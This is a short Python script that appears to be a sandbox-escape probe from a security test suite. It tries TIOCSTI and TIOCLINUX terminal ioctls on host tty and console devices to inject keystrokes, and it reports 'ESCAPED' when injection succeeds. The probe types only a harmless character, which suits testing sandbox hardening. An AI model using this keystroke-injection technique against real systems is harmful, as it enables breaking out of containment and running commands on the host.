# attack: Types commands into a terminal of the host.
# needs: system_calls=filtered
import errno
import fcntl
import glob
import os

TIOCSTI, TIOCLINUX = 0x5412, 0x541C
for place in ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *glob.glob("/dev/pts/*"), 0, 1, 2]:
    try:
        opened = os.open(place, os.O_RDWR) if isinstance(place, str) else place
    except OSError:
        continue
    for request in (TIOCSTI, TIOCLINUX):
        try:
            fcntl.ioctl(opened, request, b"x")
            print("ESCAPED typed into", place)
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.EACCES):
                print("ESCAPED got to", place, error)
print("tried")
